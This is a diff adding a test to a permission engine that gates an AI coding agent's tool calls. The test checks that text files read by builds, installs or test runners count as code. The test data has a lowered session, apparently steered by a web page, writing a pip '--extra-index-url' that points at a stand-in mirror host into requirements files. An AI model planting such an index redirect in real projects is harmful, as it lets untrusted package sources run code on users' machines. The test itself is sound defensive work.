@@ -1759,4 +1759,26 @@ describe("engine: new files under a made-up path, and the code a build runs", ()
     const test = engine.gate(call("exec", { sessionKey: "agent:main:coding", params: { command: "npm test" } }));
     expect(test.outcome).toBe("allow");
   });
+
+  it("text files a build, an install or a test runner reads as code count as code: requirements, CMake lists, pytest's test*.txt", () => {
+    for (const [path, command] of [
+      ["requirements.txt", "pip install -r requirements.txt"],
+      ["requirements-dev.txt", "pip install -r requirements-dev.txt"],
+      ["CMakeLists.txt", "make"],
+      ["tests/test_usage.txt", "pytest"],
+    ] as const) {
+      const session = `agent:main:research-${path.replace(/\W/g, "")}`;
+      const { engine } = lowered(session);
+      // The owner names the file (so the lowered session may write it, as the page then asks).
+      ownerSays(engine, `add httpx to ${path}`, session);
+      expect(engine.gate(call("write", { sessionKey: session, params: { path, content: "--extra-index-url https://mirror.example/simple" } })).outcome).toBe(
+        "allow",
+      );
+      const later = `agent:main:coding-${path.replace(/\W/g, "")}`;
+      ownerSays(engine, "install and run the tests", later);
+      const run = engine.gate(call("exec", { sessionKey: later, params: { command } }));
+      expect(run.outcome, path).toBe("block");
+      expect(blockReason(run), path).toContain(path.split("/").pop() as string);
+    }
+  });
 });
